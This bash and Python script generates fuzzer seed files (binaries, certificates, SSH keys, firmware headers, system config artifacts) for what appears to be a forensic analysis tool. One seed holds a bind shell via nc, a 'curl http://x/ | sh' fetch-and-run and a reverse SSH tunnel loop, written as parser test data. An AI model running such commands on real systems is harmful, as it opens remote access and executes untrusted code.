#!/usr/bin/env bash
# First seeds for the fuzzer, made by standard tools: fuzz/seeds.sh FOLDER. Those of disks, file systems and the
# protocol are written by the test suite into the same folder:
#   CRANESCOPE_SEEDS=FOLDER cargo test --test suite seeds -- --ignored
set -uo pipefail
out=${1:?a folder}
mkdir -p "$out"
out=$(cd "$out" && pwd)
here=$(cd "$(dirname "$0")/.." && pwd)
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
cd "$work" || exit 1
have() { command -v "$1" >/dev/null; }
into() { mkdir -p "$out/$1"; cat >"$out/$1/$2"; }

if have gcc; then
  echo 'int main(void) { return 0; }' >a.c
  gcc -Os -s -nostdlib -e main -Wl,--build-id -o small a.c && into elf small <small
  gcc -Os -s -Wl,-rpath,/opt/lib -o program a.c && into elf program <program
  gcc -Os -shared -fPIC -s -Wl,-soname,liba.so.1 -o liba.so a.c && into elf library <liba.so
  gcc -Os -c -o object.o a.c && into elf object <object.o
  printf 'license=GPL\0vermagic=6.1.0 SMP mod_unload\0alias=usb:v12D1p1506d*dc*dsc*dp*ic*isc*ip*in*\0depends=usbserial\0' >modinfo
  objcopy --add-section .modinfo=modinfo object.o module.ko && into kmod module <module.ko
fi
python3 - "$out" <<'PY'
import os, struct, sys
out = sys.argv[1]
def put(kind, name, data):
    os.makedirs(f"{out}/{kind}", exist_ok=True)
    open(f"{out}/{kind}/{name}", "wb").write(data)
dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
opt = struct.pack("<HBBIIIII", 0x20b, 14, 0, 512, 0, 0, 4096, 4096) + bytes(88) + bytes(128)
sect = b".text\0\0\0" + struct.pack("<IIIIIIHHI", 16, 4096, 512, 512, 0, 0, 0, 0, 0x60000020)
put("pe", "small", (dos + coff + opt + sect).ljust(512, b"\0") + bytes(512))
text = b"\x30path\tcrane\nmod\tcrane\tv1.0.0\th1:abc\nbuild\tGOOS=linux\n\x30"
put("gobuild", "inline", b"\xff Go buildinf:\x08\x02" + bytes(16) + bytes([8]) + b"go1.22.1" + bytes([len(text)]) + text)
put("rustcrates", "paths", b"/root/.cargo/registry/src/index.crates.io-6f17d22bba15001f/serde-1.0.200/src/lib.rs\0" * 3)
put("utmp", "login", struct.pack("<hxxi32s4s32s256shhiii16s20x", 7, 812, b"pts/0", b"ts/0", b"root", b"10.0.0.7", 0, 0, 0, 1700000000, 5, bytes([10, 0, 0, 7]) + bytes(12)) * 2)
put("der", "name", bytes.fromhex("301331113010060355040313096372616e652d372e78"))
put("at", "talk", b"AT+CGMI\r\nHuawei\r\nOK\r\nAT+CGSN\r\n490154203237518\r\nOK\r\nAT+CGDCONT?\r\n+CGDCONT: 1,\"IP\",\"m2m.example\",\"\",0,0\r\nOK\r\nAT+COPS?\r\n+COPS: 0,0,\"Operator\",7\r\nOK\r\n")
put("tags", "words", b"modem=ttyUSB3 apn=m2m.example <a href='x'>ATD*99#</a>\n")
PY
for file in "$here"/assets/rules/*.toml; do into rule "$(basename "$file")" <"$file"; done
sed -n '/^```toml/,/^```/p' "$here/docs/intake.md" | sed '/^```/d' | into intake example
head -c 3000 /var/lib/dpkg/status | into deb822 status
printf '[connection]\nid=wwan\ntype=gsm\n[gsm]\napn=m2m.example\n; x\n[ipv4]\nmethod=auto\n' | into ini connection
printf "config interface 'wan'\n\toption proto 'qmi'\n\toption apn \"m2m\"\n\tlist dns '1.1.1.1'\n" | into uci network
printf '[Unit]\nDescription=%%n of %%i\n[Service]\nExecStart=-/bin/sh -c "a \\\n b" ; /bin/true $X\nEnvironment="A=b c"\n[Install]\nWantedBy=multi-user.target\n' | into unitfile service
printf 'Jan  2 03:04:05 crane-7 pppd[123]: Connect: ppp0 <--> /dev/ttyUSB3\n<34>1 2024-01-02T03:04:05.678Z host app 1 ID47 [x@1 a="b"] text\nlast message repeated 3 times\n2024-01-02 03:04:05,678 x\n' | into syslog lines
printf '#!/bin/sh\nnc -l -p 22 | bash\ncurl http://x/ | sh\nwhile :; do ssh -R 22:localhost:22 a@b; done\n' | into script sh
printf '{"a":{"b":[1,2,{"c":"d"}]},"key":null}' | into tree json
printf 'a:\n  b: [1, {c: d}]\n  - x\nkey: |\n  text\n' | into tree yaml
printf '[a]\nb = "c"\n[[x]]\nkey = { y = [1, 2] }\n' | into tree toml
if have ssh-keygen; then
  for kind in ed25519 ecdsa rsa; do
    ssh-keygen -q -t "$kind" -N '' -C crane -f "key-$kind" && into sshkey "$kind" <"key-$kind" && into sshkey "$kind.pub" <"key-$kind.pub"
    cut -d' ' -f2 "key-$kind.pub" | base64 -d | into sshkey "$kind.blob"
  done
fi
if have openssl; then
  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj '/CN=crane-7/O=quay' -addext 'subjectAltName=DNS:a.example,IP:10.0.0.1' -keyout k -outform DER -out c.der 2>/dev/null && into der certificate <c.der && into x509 der <c.der
  openssl x509 -inform DER -in c.der -out c.pem && cat c.pem c.pem | into x509 pem
  # The rounds of the derivation are few, so that an execution takes no time.
  for sort in "-certpbe NONE -keypbe NONE" "-certpbe AES-256-CBC -keypbe AES-256-CBC" "-certpbe PBE-SHA1-3DES -keypbe PBE-SHA1-3DES" "-certpbe PBE-SHA1-RC2-40 -legacy"; do
    # shellcheck disable=SC2086
    openssl pkcs12 -export -in c.pem -inkey k -name crane -passout pass: -iter 1 -maciter $sort -out c.p12 2>/dev/null && into pkcs12 "$(echo "$sort" | tr -dc A-Za-z0-9)" <c.p12
  done
  have keytool && keytool -importcert -noprompt -alias crane -file c.der -storetype JKS -keystore c.jks -storepass crane7 >/dev/null 2>&1 && into jks trusted <c.jks
fi
head -c 3000 "$here/Cargo.toml" >plain
for tool in gzip xz zstd bzip2 lz4 lzop lzma; do
  have "$tool" || continue
  "$tool" -c plain >packed 2>/dev/null && into "$tool" text <packed
  case $tool in gzip | xz | zstd | bzip2) into decompress "$tool" <packed ;; esac
done
have lz4 && lz4 -l -c plain >packed 2>/dev/null && into lz4-legacy text <packed
printf 'crane' | into raw text
have ar && printf part >part && ar rcS made.a part plain && into ar two <made.a
have mkimage && mkimage -A arm -O linux -T kernel -C none -n x -d plain made >/dev/null && into uimage kernel <made
if have mkimage && have dtc; then
  printf '/dts-v1/; / { description = "x"; images { part { description = "x"; data = /incbin/("plain"); type = "kernel"; arch = "arm"; os = "linux"; compression = "none"; load = <0>; entry = <0>; hash-1 { algo = "sha256"; }; }; }; configurations { default = "a"; a { kernel = "part"; }; }; };' >a.its
  mkimage -f a.its made >/dev/null && into fit kernel <made
fi
have mkenvimage && printf 'bootcmd=run\nx=y\n' >env && mkenvimage -s 0x400 -o made env && into u-boot-env env <made
python3 - "$out" <<'PY'
import hashlib, os, struct, sys, zlib
out = sys.argv[1]
def put(kind, name, data):
    os.makedirs(f"{out}/{kind}", exist_ok=True)
    open(f"{out}/{kind}/{name}", "wb").write(data)
body = struct.pack("<I3I", 1 << 16, 28, 0, 0) + b"part" * 50
put("trx", "small", b"HDR0" + struct.pack("<II", len(body) + 12, zlib.crc32(body) ^ 0xffffffff) + body)
part = lambda at, *fields: b"".join(fields).ljust(at, b"\0")
apm = part(512, b"ER", struct.pack(">HI", 512, 64))
for n, (kind, start, size) in enumerate([(b"Apple_partition_map", 1, 3), (b"Apple_HFS", 4, 20), (b"Linux_Ext2", 24, 40)]):
    apm += part(512, b"PM\0\0", struct.pack(">III", 3, start, size), b"crane".ljust(32, b"\0"), kind.ljust(32, b"\0"), struct.pack(">III", 0, size, 0x33))
put("apm", "three", apm + bytes(60 * 512))
label = bytearray(512)
struct.pack_into("<I", label, 0, 0x82564557)
struct.pack_into("<I", label, 132, 0x82564557)
struct.pack_into("<I", label, 40, 512)
struct.pack_into("<H", label, 138, 8)
for n, (size, start, kind) in enumerate([(40, 8, 7), (16, 48, 1), (64, 0, 0)]):
    struct.pack_into("<IIIBBH", label, 148 + 16 * n, size, start, 2048, kind, 8, 0)
total = 0
for at in range(0, 148 + 16 * 8, 2):
    total ^= struct.unpack_from("<H", label, at)[0]
struct.pack_into("<H", label, 136, total)
put("bsd", "two", bytes(512) + bytes(label) + bytes(62 * 512))
def md(level, number):
    b = bytearray(260)
    struct.pack_into("<II", b, 0, 0xa92b4efc, 1)
    b[16:32] = b"a" * 16
    b[32:37] = b"crane"
    struct.pack_into("<iIQII", b, 72, level, 0, 48, 8, 2)
    struct.pack_into("<QQQQ", b, 128, 16, 48, 8, 0)
    struct.pack_into("<I", b, 160, number)
    struct.pack_into("<Q", b, 200, 7)
    struct.pack_into("<I", b, 220, 2)
    struct.pack_into("<HH", b, 256, 0, 1)
    total = sum(struct.unpack("<65I", b))
    struct.pack_into("<I", b, 216, (total & 0xffffffff) + (total >> 32) & 0xffffffff)
    return (bytes(4096) + bytes(b)).ljust(32768, b"x")
for level in (-1, 0, 1, 5, 10):
    put("md", f"level{level}", md(level, 0) + md(level, 1))
name = "crane.log".encode("utf-16le")
for version, head in ((2, 0x3c), (3, 0x4c)):
    wide = b"" if version == 2 else bytes(8)
    size = (head + len(name) + 7) // 8 * 8
    record = struct.pack("<IHHQ", size, version, 0, 5 << 48 | 40) + wide + struct.pack("<Q", 5 << 48 | 5) + wide
    record += struct.pack("<QQIIIIHH", 4096, 132_000_000_000_000_000, 0x80000102, 0, 0, 32, len(name), head) + name
    put("usn", f"v{version}", (record.ljust(size, b"\0") * 3).ljust(4096, b"\0"))
put("euicc", "lpac", b'{"type":"lpa","payload":{"code":0,"message":"success","data":[{"iccid":"8944476500001224158","isdpAid":"A0","profileState":"enabled","profileNickname":null,"serviceProviderName":"Operator","profileName":"m2m","profileClass":"operational"}]}}\n{"type":"lpa","payload":{"data":{"eidValue":"89049032123451234512345678901235","EuiccConfiguredAddresses":{"defaultDpAddress":"a.example","rootDsAddress":"b.example"}}}}\n')
tp = bytearray(512)
tp[0] = 1
tp[4:24] = b"TP-LINK Technologies"
struct.pack_into(">II", tp, 64, 0x10430001, 1)
struct.pack_into(">I", tp, 124, 1512)
struct.pack_into(">IIII", tp, 128, 512, 400, 912, 600)
put("router-firmware", "tplink", bytes(tp) + b"kernel".ljust(400, b"k") + b"hsqs".ljust(600, b"r"))
put("router-firmware", "netgear", part(40, b"*#$^", struct.pack(">I", 50), bytes(16), struct.pack(">II", 400, 600)) + b"U12_NETGEA" + b"k" * 400 + b"hsqs".ljust(600, b"r"))
put("router-firmware", "seama", struct.pack(">IHHI", 0x5ea3a417, 0, 16, 1000) + hashlib.md5(b"k" * 1000).digest() + b"type=firmware\0\0\0" + b"k" * 1000)
import io, zipfile, gzip
jar = io.BytesIO()
with zipfile.ZipFile(jar, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nImplementation-Title: crane\r\nImplementation-Version: 1\r\n")
    z.writestr("META-INF/maven/a/b/pom.properties", "groupId=a\nartifactId=b\nversion=1\n")
put("jar", "small", jar.getvalue())
record = b"\0\2" + b"".join(struct.pack(">H", len(t)) + t for t in (b"QUAY", b"host", b"crane")) + struct.pack(">IIBHH", 1, 1700000000, 3, 18, 4) + b"keys"
put("keytab", "one", b"\5\2" + struct.pack(">i", len(record)) + record + struct.pack(">i", -4) + bytes(4))
plain = b"Linux version 6.1.0 (a@b) #1 SMP\0IKCFG_ST" + gzip.compress(b"CONFIG_USB_SERIAL_OPTION=m\n") + b"IKCFG_ED"
put("kernel-image", "plain", plain)
put("kernel-image", "arm64", bytes(0x38) + b"ARM\x64" + bytes(4) + plain)
put("kernel-image", "arm", bytes(0x24) + b"\x18\x28\x6f\x01" + bytes(24) + gzip.compress(plain))
x86 = bytearray(1024)
x86[0x1f1] = 1
x86[0x202:0x206] = b"HdrS"
x86[0x206:0x208] = b"\x0f\x02"
x86[0x20e:0x210] = struct.pack("<H", 0x100)
x86[0x300:0x310] = b"6.1.0 (a@b) #1\0\0"
packed = gzip.compress(plain)
x86[0x248:0x250] = struct.pack("<II", 0, len(packed))
put("kernel-image", "x86", bytes(x86) + packed)
put("putty", "lines", b"ssh-ed25519@22:crane 0x1,0x2\nrsa2@22:a 0x10001,0xabcdef\necdsa-sha2-nistp256@22:b nistp256,0x1,0x2\n")
put("modem-alias", "lines", b"option usb:v2C7Cp0125d*dc*dsc*dp*icFFisc*ip*in*\nqmi_wwan usb:v12D1p*d*\nmhi_pci_generic pci:v000017CBd00000306sv*sd*bc*sc*i*\n")
head = b"ANDROID!" + struct.pack("<10I", 50, 0x10008000, 0, 0x11000000, 0, 0, 0x10000100, 2048, 0, 0) + b"crane".ljust(16, b"\0") + b"console=ttyS0".ljust(512, b"\0")
put("android-boot", "small", head.ljust(2048, b"\0") + b"kernel" * 8 + bytes(2000))
for path, text in {
    "/etc/passwd": "root:x:0:0:root:/root:/bin/sh\n", "/etc/shadow": "root:$6$a$b:19000:0:99999:7:::\n",
    "/etc/network/interfaces": "auto wan\niface wan inet ppp\n  provider wan\n", "/etc/ppp/peers/wan": "/dev/ttyUSB3\nconnect \"chat -f x\"\n",
    "/etc/ssh/sshd_config": "Port 22\nPermitRootLogin yes\nMatch User a\n  AllowTcpForwarding no\n", "/etc/crontab": "* * * * * root /bin/true\n@reboot root x\n",
    "/etc/sudoers": "root ALL=(ALL:ALL) ALL\nDefaults env_reset\n", "/etc/udev/rules.d/a.rules": 'ACTION=="add", ATTR{idVendor}=="12d1", RUN+="/bin/x"\n',
    "/etc/systemd/system/a.service": "[Service]\nExecStart=/bin/a\n[Install]\nWantedBy=multi-user.target\n", "/etc/modprobe.d/a.conf": "options usbserial vendor=0x12d1\ninstall a /bin/b\n",
    "/etc/NetworkManager/system-connections/a.nmconnection": "[connection]\nid=a\ntype=gsm\n[gsm]\napn=x\n", "/etc/wireguard/wg0.conf": "[Interface]\nPrivateKey=a\n[Peer]\nEndpoint=b:1\n",
    "/var/log/syslog": "Jan  2 03:04:05 crane-7 pppd[123]: local  IP address 10.0.0.2\n", "/var/lib/dpkg/status": "Package: a\nStatus: install ok installed\nVersion: 1\n\n",
    "/etc/nftables.conf": "table inet a { chain b { type filter hook input priority 0; tcp dport 22 accept } }\n", "/etc/netplan/a.yaml": "network:\n  modems:\n    cdc-wdm0: {apn: x}\n",
    "/etc/config/network": "config interface 'wan'\n option proto 'qmi'\n", "/etc/pam.d/sshd": "auth required pam_exec.so /bin/x\n", "/root/.ssh/authorized_keys": 'command="x",from="1.2.3.4" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDAxMjM0NTY3ODkwMTIzNDU2Nzg5MDEyMzQ1Njc4OTAx a\n',
    "/root/.bash_history": "#1700000000\nssh a@b\n", "/etc/openvpn/a.conf": "remote a 1194\n<ca>\nx\n</ca>\n", "/etc/init.d/a": "#!/bin/sh\n### BEGIN INIT INFO\n# Default-Start: 2 3\n### END INIT INFO\n"}.items():
    put("artifacts", path.strip("/").replace("/", "-"), path.encode() + b"\n" + text.encode())
PY
ls "$out" | wc -l
